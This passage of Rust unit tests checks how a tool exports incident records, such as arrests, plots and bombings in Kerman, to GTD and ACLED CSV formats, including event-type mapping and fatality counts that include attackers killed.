        let bombing = incident(2, "Kerman");
        let rows = exported(gtd, &[arrest, plot, bombing]);
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0]["eventid"], "inc_2");
        assert_eq!(rows[0]["attacktype1_txt"], "Bombing/Explosion");
        // The ACLED export keeps them, as strategic developments.
        let mut arrest = incident(0, "Kerman");
        arrest.event_type = EventType::Arrest;
        let rows = exported(incidents_acled_csv, &[arrest]);
        assert_eq!(
            (rows[0]["disorder_type"].as_str(), rows[0]["sub_event_type"].as_str()),
            ("Strategic developments", "Arrests")
        );
        assert_eq!((rows[0]["actor1"].as_str(), rows[0]["inter1"].as_str()), ("Police Forces of Iran", "1"));
        // The test incident's perpetrator is named after its place: the arrested are the other side.
        assert_eq!(rows[0]["actor2"], "Kerman");
    }

    #[test]
    fn gtd_and_acled_count_the_attackers_who_died_among_the_dead() {
        let mut inc = incident(0, "Kerman");
        inc.attackers_killed = Some(CountRange::exact(2));
        let rows = exported(gtd, std::slice::from_ref(&inc));
        assert_eq!((rows[0]["nkill"].as_str(), rows[0]["nkillter"].as_str()), ("5", "2"));
        let rows = exported(incidents_acled_csv, &[inc]);
        assert_eq!(rows[0]["fatalities"], "5");
    }
}
